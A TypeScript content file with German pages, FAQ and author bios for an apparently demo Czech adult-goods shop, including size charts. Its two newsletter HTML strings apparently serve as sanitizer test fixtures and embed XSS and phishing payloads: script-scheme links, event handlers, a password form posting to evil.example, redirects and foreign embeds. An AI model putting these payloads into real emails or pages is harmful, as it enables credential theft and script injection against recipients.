import type { LocalDocuments } from "./content-local-documents.ts";
import {
  blockquote,
  bold,
  bulletList,
  button,
  doc,
  heading,
  image,
  link,
  paragraph,
  table,
} from "./content-rich-text.ts";
import { EURO_FREE_SHIPPING, paymentFee, shipperFee } from "./euro-fees.ts";

/**
 * The German shop's documents. Amounts are the store's euro fees; the spring sale's
 * infomail went out in Czech only and the Easter page was never translated, so both stay
 * Czech here.
 */

const aboutPurchase = (title: string) =>
  `${title} – alles, was Sie über den Einkauf bei uns wissen sollten.`;

export const GERMAN_DOCUMENTS: LocalDocuments = {
  pages: {
    doprava: {
      body: [
        paragraph(
          "Bestellungen, die bis 14:00 Uhr eingehen, verschicken wir noch am selben Tag; die Zustellung dauert in der Regel ein bis zwei Werktage.",
        ),
        table([
          ["Versandart", "Preis", "Zustellung"],
          ["Packeta-Abholstelle", shipperFee("packeta"), "1–2 Werktage"],
          ["PPL-Kurier an Ihre Adresse", shipperFee("ppl"), "1–2 Werktage"],
        ]),
        paragraph(bold(`Ab ${EURO_FREE_SHIPPING}`), " liefern wir versandkostenfrei."),
      ],
      seoDescription: aboutPurchase("Versand"),
    },
    platba: {
      body: [
        bulletList([
          "Online mit Karte",
          "Per Banküberweisung (QR-Code)",
          `Per Nachnahme (Aufpreis ${paymentFee("cash-on-delivery")})`,
        ]),
        paragraph("Auf Ihrem Kontoauszug erscheint nur ein neutraler Firmenname."),
      ],
      seoDescription: aboutPurchase("Zahlung"),
    },
    "diskretnost-nakupu": {
      body: [
        paragraph(
          "Wir verpacken Ihre Bestellung in einem blickdichten Karton ohne Logo und ohne Angabe des Inhalts.",
        ),
        blockquote("Nicht einmal der Zusteller weiß, was er Ihnen bringt."),
      ],
      seoDescription: aboutPurchase("Diskreter Einkauf"),
    },
    "zmeny-v-objednavce": {
      body: [
        paragraph(
          "Solange wir Ihre Bestellung noch nicht verschickt haben, können Sie sie ändern. Schreiben Sie uns oder rufen Sie uns an.",
        ),
      ],
      seoDescription: aboutPurchase("Bestelländerungen"),
    },
    "vraceni-do-30-dni": {
      body: [
        paragraph(
          "Unbenutzte Ware in der Originalverpackung können Sie innerhalb von 30 Tagen ohne Angabe von Gründen zurückgeben.",
        ),
        paragraph("Wie das geht, steht auf der Seite ", link("Rückgabe", "/vraceni-zbozi"), "."),
      ],
      seoDescription: aboutPurchase("Rückgabe in 30 Tagen"),
    },
    "bezproblemova-reklamace": {
      body: [
        paragraph(
          "Reklamationen erledigen wir meist innerhalb von fünf Tagen; nur etwa 0,8 % unserer Waren werden überhaupt reklamiert.",
        ),
        button("Reklamation einreichen", "/reklamace"),
      ],
      seoDescription: aboutPurchase("Problemlose Reklamation"),
    },
    "klientske-centrum": {
      body: [
        paragraph("Wir sind werktags von 8 bis 18 Uhr telefonisch und per E-Mail für Sie da."),
      ],
      seoDescription: aboutPurchase("Kundencenter"),
    },
    "obchodni-podminky": {
      body: [
        heading(2, "1. Geltungsbereich"),
        paragraph(
          "Diese Allgemeinen Geschäftsbedingungen regeln das Verhältnis zwischen Verkäufer und Käufer beim Einkauf in unserem Onlineshop.",
        ),
        heading(2, "2. Bestellung"),
        paragraph(
          "Mit dem Absenden der Bestellung bestätigt der Käufer, dass er mindestens 18 Jahre alt ist.",
        ),
      ],
      seoDescription: aboutPurchase("AGB"),
    },
    "souhlas-se-zpracovanim-osobnich-udaju": {
      body: [
        paragraph(
          "Wir verarbeiten personenbezogene Daten nur, soweit es für die Abwicklung Ihrer Bestellung und den Versand unseres Newsletters nötig ist.",
        ),
      ],
      seoDescription: aboutPurchase("Einwilligung zur Datenverarbeitung"),
    },
    "jak-nakupovat": {
      body: [
        bulletList([
          "Artikel auswählen und in den Warenkorb legen",
          "Versand und Zahlung wählen",
          "Lieferdaten eingeben",
          "Bestellung absenden",
        ]),
        image("content/jak-nakupovat", "So kaufen Sie ein, Schritt für Schritt"),
      ],
      seoDescription: aboutPurchase("So kaufen Sie ein"),
    },
    "vernostni-program": {
      body: [
        paragraph(
          "Von jedem Einkauf bekommen Sie 10 % als Treuepunkte zurück und lösen sie bei Ihrer nächsten Bestellung ein.",
        ),
      ],
      seoDescription: aboutPurchase("Treueprogramm"),
    },
    kontakt: {
      body: [
        paragraph("Kundenhotline: ", link("+420 800 123 456", "tel:+420800123456")),
        paragraph("E-Mail: ", link("podpora@example.cz", "mailto:podpora@example.cz")),
        paragraph("Betreiber: Demo obchod s.r.o., Vinohradská 1, 120 00 Prag 2, Tschechien"),
      ],
      seoDescription: "So erreichen Sie unseren Kundenservice und unsere Geschäfte.",
    },
    "nejcastejsi-dotazy": {
      body: [
        paragraph(
          "Was man uns am häufigsten fragt: Bestellung, Versand, Zahlung, Rückgabe und Diskretion. Klicken Sie auf eine Frage, dann erscheint die Antwort.",
        ),
      ],
      seoDescription: "Antworten auf die häufigsten Fragen zu Einkauf, Versand und Rückgabe.",
    },
    "tabulka-velikosti": {
      body: [
        paragraph(
          "Die richtige Größe ist die Grundlage für Komfort und Sicherheit. Messen Sie mit einem Maßband nach der Anleitung bei jeder Tabelle und wählen Sie die Größe, die zu Ihnen passt.",
        ),
        heading(2, "Kondome nach Nennbreite"),
        paragraph(
          "Die Nennbreite ist die Breite des flach liegenden Kondoms in Millimetern. Entscheidend ist der Umfang des erigierten Penis.",
        ),
        table([
          ["Nennbreite", "Umfang erigiert", "Durchmesser"],
          ["47 mm", "9–10,5 cm", "2,9–3,3 cm"],
          ["49 mm", "10–11 cm", "3,2–3,5 cm"],
          ["52 mm", "11–12 cm", "3,5–3,8 cm"],
          ["54 mm", "12–12,5 cm", "3,8–4,0 cm"],
          ["57 mm", "12,5–13,5 cm", "4,0–4,3 cm"],
          ["60 mm", "13,5–14,5 cm", "4,3–4,6 cm"],
          ["64 mm", "14,5–15,5 cm", "4,6–4,9 cm"],
          ["69 mm", "ab 15,5 cm", "ab 4,9 cm"],
        ]),
        heading(3, "So messen Sie"),
        bulletList([
          "Messen Sie im erigierten Zustand an der breitesten Stelle, meist in der Mitte des Schafts.",
          "Legen Sie das Maßband locker an, ohne es festzuziehen.",
          "Liegen Sie zwischen zwei Größen, nehmen Sie die kleinere: Das Kondom muss gut sitzen.",
        ]),
        heading(2, "Erotische Wäsche"),
        paragraph(
          "Die Maße sind in Zentimetern angegeben und gelten für Dessous, Negligés, Bodys und Morgenmäntel.",
        ),
        table([
          ["Größe", "EU", "Brust", "Taille", "Hüfte"],
          ["S", "36", "82–86", "62–66", "88–92"],
          ["M", "38", "87–92", "67–72", "93–98"],
          ["L", "40", "93–98", "73–78", "99–104"],
          ["XL", "42", "99–104", "79–84", "105–110"],
          ["XXL", "44", "105–112", "85–92", "111–118"],
        ]),
        heading(3, "So messen Sie"),
        bulletList([
          "Brust: über die stärkste Stelle, das Maßband waagerecht unter den Achseln führen.",
          "Taille: an der schmalsten Stelle des Oberkörpers, meist über dem Bauchnabel.",
          "Hüfte: an der breitesten Stelle über das Gesäß, dabei mit geschlossenen Füßen stehen.",
          "Fällt jedes Maß in eine andere Größe, richten Sie sich nach der größten.",
        ]),
        heading(2, "Penisringe nach Innendurchmesser"),
        table([
          ["Größe", "Innendurchmesser", "Innenumfang"],
          ["S", "35 mm", "11,0 cm"],
          ["M", "40 mm", "12,6 cm"],
          ["L", "45 mm", "14,1 cm"],
          ["XL", "50 mm", "15,7 cm"],
        ]),
        heading(3, "So messen Sie"),
        bulletList([
          "Messen Sie den Umfang an der Peniswurzel im schlaffen Zustand und teilen Sie ihn durch 3,14: Das ergibt den Innendurchmesser.",
          "Wenn Sie unsicher sind, beginnen Sie mit einem größeren oder verstellbaren Ring.",
          "Tragen Sie den Ring nicht länger als 30 Minuten und nehmen Sie ihn bei Schmerzen oder Taubheit sofort ab.",
        ]),
        paragraph(
          bold("Noch unsicher?"),
          " Schreiben Sie uns über die Seite ",
          link("Kontakt", "/kontakt"),
          ", wir helfen Ihnen gern bei der Auswahl.",
        ),
      ],
      seoDescription:
        "So finden Sie die richtige Größe bei Kondomen, erotischer Wäsche und Penisringen: Tabellen und Messanleitung.",
    },
  },
  contactBox: {
    title_frontend: "Nicht gefunden, was Sie suchen?",
    description: "Rufen Sie uns an oder schreiben Sie uns, wir helfen gern.",
  },
  infomails: {
    "novinky-v-kondomech": {
      title: "Neue Kondome und wie Sie die richtige Größe finden",
      perex:
        "Neue hauchdünne Kondome und eine kurze Anleitung, mit der Sie die passende Größe finden.",
      html: `<div class="mail">
<img src="{{cdn}}/image/w600h300/infomail/novinky-v-kondomech" alt="Neue Kondome">
<h2>Dünner als je zuvor</h2>
<p>Neu im Sortiment: <em>hauchdünne Kondome</em> in fünf Größen. Sie wissen nicht, welche
die richtige ist? Werfen Sie einen Blick in unsere <a href="https://www.example.cz/de/grossentabelle">Größentabelle</a>.</p>
<ul><li>Nennbreite von 47 bis 69 mm</li><li>latexfrei und mit Latex</li><li>Packungen mit 3, 12 und 36 Stück</li></ul>
<table border="1" cellpadding="4"><thead><tr><th>Umfang</th><th>Größe</th></tr></thead>
<tbody><tr><td>11–12 cm</td><td>52 mm</td></tr><tr><td>12,5–13,5 cm</td><td>57 mm</td></tr></tbody></table>
<p><a href="vbscript:msgbox('x')">Hier klicken</a> <a href="data:text/html,<script>alert(1)</script>">oder hier</a></p>
<p><img src="http://tracker.example/pixel.gif?u=123" width="1" height="1" alt=""></p>
<form action="https://evil.example/steal"><input name="password"><button>Senden</button></form>
<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/x.swf">
<svg onload="alert('svg')"><circle r="10"></circle></svg>
</div>`,
    },
    "darek-ke-kazde-objednavce": {
      title: "Ein Geschenk zu jeder Bestellung",
      perex: "Diese Woche legen wir jeder Bestellung gratis eine Massagekerze bei.",
      html: `<table role="presentation" width="100%"><tr><td>
<img src="{{cdn}}/image/w600h300/infomail/darek-ke-kazde-objednavce" alt="Massagekerze als Geschenk">
<h2>Massagekerze gratis</h2>
<p>Bis Sonntag liegt jeder Bestellung eine <strong>Massagekerze mit Vanilleduft</strong> bei.
Sie kaufen einfach ein, das Geschenk packen wir dazu.</p>
<p>Fragen? Schreiben Sie uns an <a href="mailto:podpora@example.cz">podpora@example.cz</a>.</p>
<p><a href="\\\\evil.example/phish">Melden Sie sich</a> <a href="//evil.example/phish">in Ihrem Konto an</a>
<a href=" jav&#x09;ascript:alert('tab')">hier</a></p>
<p onclick="alert('click')" onmouseover="alert('over')">Schöne Tage wünscht Ihr Shop-Team.</p>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/evil.css">
</td></tr></table>`,
    },
  },
  authors: {
    "katerina-novotna": {
      perex:
        "Psychologin und Paartherapeutin, schreibt über Beziehungen, Kommunikation und erste Schritte.",
      bio: doc(
        paragraph(
          "Kateřina hat an der Masaryk-Universität Psychologie studiert und arbeitet seit fünfzehn Jahren mit Paaren. Im Magazin beantwortet sie die Fragen, die man sich nicht laut zu stellen traut.",
        ),
        heading(2, "Worüber sie schreibt"),
        paragraph(
          "Am liebsten darüber, wie man miteinander über Wünsche und Grenzen spricht. Sie ist überzeugt: Eine gute Beziehung lebt nicht von Perfektion, sondern von Neugier und Zuwendung.",
        ),
      ),
    },
    "tomas-marek": {
      perex: "Testet in unserer Redaktion Toys und weiß, was hinter den technischen Daten steckt.",
      bio: doc(
        paragraph(
          "Tomáš hat Hunderte Toys getestet. Ihn interessiert, woraus sie bestehen, wie lange der Akku hält und ob der Hersteller übertreibt.",
        ),
        heading(2, "Wie er testet"),
        paragraph(
          "Jedes Toy probiert er mehrere Wochen lang aus, misst Lautstärke und Laufzeit und vergleicht es mit ähnlichen Modellen. Er schreibt verständlich und ohne Werbefloskeln.",
        ),
      ),
    },
    "lucie-horakova": {
      perex: "Redakteurin mit einem Faible für Geschenke, Dessous und Abende voller Ideen.",
      bio: doc(
        paragraph(
          "Bevor Lucie zu unserer Redaktion kam, schrieb sie über Mode und Lifestyle. Sie berät bei der Wahl von Dessous und Geschenken und bei der Planung von Abenden, die man nicht vergisst.",
        ),
        paragraph(
          "In ihrer Freizeit tanzt sie Salsa und sammelt Rezepte für Desserts, die zu einem Date passen.",
        ),
      ),
    },
    "jan-prochazka": {
      perex: "Apotheker, der intime Gesundheit, Verhütung und sichere Materialien erklärt.",
      bio: doc(
        paragraph(
          "Jan arbeitet als Apotheker in Brünn und beantwortet dort täglich Fragen zu Gleitmitteln, Kondomen und Intimhygiene.",
        ),
        heading(2, "Worauf er achtet"),
        paragraph(
          "Dass jeder Rat sachlich und geprüft ist. Wo die Selbstbehandlung an ihre Grenzen stößt, empfiehlt er immer den Gang zum Arzt.",
        ),
      ),
    },
    "redakce-amoris": {
      perex: "Gemeinsame Artikel der ganzen Magazinredaktion.",
      bio: null,
    },
  },
  faqTopics: {
    objednavka: "Bestellung",
    "doprava-a-doruceni": "Versand und Zustellung",
    platba: "Zahlung",
    "vraceni-a-reklamace": "Rückgabe und Reklamation",
    "diskretnost-a-soukromi": "Diskretion und Datenschutz",
    "ucet-a-vyhody": "Konto und Vorteile",
  },
  faqQuestions: {
    doprava: {
      title: "Was kostet der Versand und wann kommt mein Paket an?",
      content: `Bestellungen, die bis 14:00 Uhr eingehen, verschicken wir noch am selben Tag. Die Lieferung an eine Packeta-Abholstelle kostet ${shipperFee("packeta")}, per PPL-Kurier an Ihre Adresse ${shipperFee("ppl")}, und ab ${EURO_FREE_SHIPPING} liefern wir versandkostenfrei.`,
    },
    "diskretni-baleni": {
      title: "Kann jemand erkennen, was im Paket ist?",
      content:
        "Nein. Wir verpacken alles in einem blickdichten Karton ohne Logo und ohne Angabe des Inhalts; als Absender steht nur ein neutraler Firmenname darauf.",
    },
    platba: {
      title: "Wie kann ich bezahlen?",
      content: `Online mit Karte, per Banküberweisung oder per Nachnahme (Aufpreis ${paymentFee("cash-on-delivery")}). Auf Ihrem Kontoauszug erscheint nur ein neutraler Firmenname.`,
    },
    vraceni: {
      title: "Kann ich Waren zurückgeben?",
      content:
        "Unbenutzte Ware in der Originalverpackung können Sie innerhalb von 30 Tagen nach Erhalt ohne Angabe von Gründen zurückgeben. Aus hygienischen Gründen gilt das nicht für Toys, die aus der Schutzfolie genommen wurden.",
    },
    reklamace: {
      title: "Wie reklamiere ich fehlerhafte Ware?",
      content:
        "Füllen Sie das Reklamationsformular aus und schicken Sie uns die Ware mit einer Beschreibung des Mangels. Meist erledigen wir eine Reklamation innerhalb von fünf Werktagen, spätestens nach 30 Tagen.",
    },
    vek: {
      title: "Ab welchem Alter kann ich bei Ihnen einkaufen?",
      content:
        "Wir verkaufen nur an Personen ab 18 Jahren. Mit dem Absenden der Bestellung bestätigen Sie, dass Sie volljährig sind.",
    },
    "vernostni-program": {
      title: "Wie funktioniert das Treueprogramm?",
      content:
        "Wenn Sie angemeldet einkaufen, bekommen Sie von jedem Einkauf 10 % als Treuepunkte zurück. Sie lösen sie bei der nächsten Bestellung ein; 25 Punkte sind 1 € wert.",
    },
    "zmena-objednavky": {
      title: "Kann ich meine Bestellung ändern oder stornieren?",
      content:
        "Ja, solange wir sie noch nicht verschickt haben. Schreiben Sie uns oder rufen Sie unsere Kundenhotline an und nennen Sie die Bestellnummer.",
    },
    "bez-registrace": {
      title: "Muss ich mich vor dem Einkauf registrieren?",
      content:
        "Nein. Sie können auch ohne Konto bestellen; mit einem Konto sehen Sie aber Ihre bisherigen Bestellungen, gespeicherte Adressen und Ihre Favoriten.",
    },
    "stav-objednavky": {
      title: "Wo sehe ich, wie weit meine Bestellung ist?",
      content:
        "Den Stand finden Sie über den Link zur Sendungsverfolgung in der Bestellbestätigung und, wenn Sie angemeldet sind, auch in Ihrem Konto unter den Bestellungen.",
    },
    "potvrzeni-objednavky": {
      title: "Ich habe keine Bestellbestätigung bekommen. Was nun?",
      content:
        "Sehen Sie zuerst im Spam-Ordner nach. Ist die Bestätigung auch dort nicht, schreiben Sie uns über das Kontaktformular, dann schicken wir sie Ihnen noch einmal.",
    },
    "vydejni-mista": {
      title: "Kann ich mein Paket an einer Abholstelle abholen?",
      content:
        "Ja. Im Warenkorb wählen Sie eine Abholstelle auf der Karte, und sobald das Paket dort ist, bekommen Sie eine Nachricht. Es wartet sieben Tage auf Sie.",
    },
    "doruceni-na-slovensko": {
      title: "Liefern Sie auch in die Slowakei?",
      content:
        "Ja. In die Slowakei liefern wir an Abholstellen und per Kurier an die Adresse, meist innerhalb von zwei Werktagen nach dem Versand.",
    },
    "nevyzvednuta-zasilka": {
      title: "Was passiert, wenn ich das Paket nicht rechtzeitig abhole?",
      content:
        "Es geht an uns zurück, und wir melden uns bei Ihnen. Haben Sie im Voraus bezahlt, erstatten wir Ihnen nach der Rücksendung das Geld oder schicken das Paket noch einmal.",
    },
    "platba-kartou": {
      title: "Ist die Zahlung mit Karte sicher?",
      content:
        "Die Zahlung läuft über einen Zahlungsdienst mit 3-D-Secure-Prüfung. Ihre Kartendaten geben Sie direkt dort ein; wir sehen und speichern sie nicht.",
    },
    faktura: {
      title: "Bekomme ich eine Rechnung?",
      content:
        "Ja, die Rechnung schicken wir per E-Mail zusammen mit der Versandbestätigung. Bestellen Sie für ein Unternehmen, geben Sie in der Bestellung Firma und USt-IdNr. an.",
    },
    "vraceni-penez": {
      title: "Wann bekomme ich mein Geld für zurückgeschickte Ware?",
      content:
        "Spätestens 14 Tage, nachdem die Rücksendung bei uns eingegangen ist: auf demselben Weg, auf dem Sie bezahlt haben, oder auf das Konto, das Sie im Formular angeben.",
    },
    vymena: {
      title: "Kann ich Ware gegen eine andere Größe oder Farbe umtauschen?",
      content:
        "Ja, unbenutzte Ware in der Originalverpackung tauschen wir um. Schicken Sie sie uns mit einem Hinweis zurück, was Sie stattdessen möchten.",
    },
    "vypis-z-uctu": {
      title: "Was steht auf meinem Kontoauszug?",
      content:
        "Nur der neutrale Name unseres Unternehmens, ohne Hinweis auf die Art der Ware. Derselbe Name steht auch auf der Rechnung.",
    },
    "osobni-udaje": {
      title: "Was machen Sie mit meinen persönlichen Daten?",
      content:
        "Wir nutzen sie nur, um Ihre Bestellung abzuwickeln, und für das, wozu Sie eingewilligt haben. Wir verkaufen sie an niemanden und löschen sie auf Wunsch.",
    },
    "zapomenute-heslo": {
      title: "Ich habe mein Passwort vergessen. Wie melde ich mich an?",
      content:
        "Klicken Sie auf der Anmeldeseite auf „Passwort vergessen“. Wir schicken Ihnen einen Link, mit dem Sie ein neues festlegen.",
    },
    oblibene: {
      title: "Wie merke ich mir Artikel für später?",
      content:
        "Melden Sie sich an und klicken Sie beim Artikel auf das Herz. Gemerkte Artikel finden Sie in Ihrem Konto unter Favoriten und legen sie von dort mit einem Klick in den Warenkorb.",
    },
  },
};
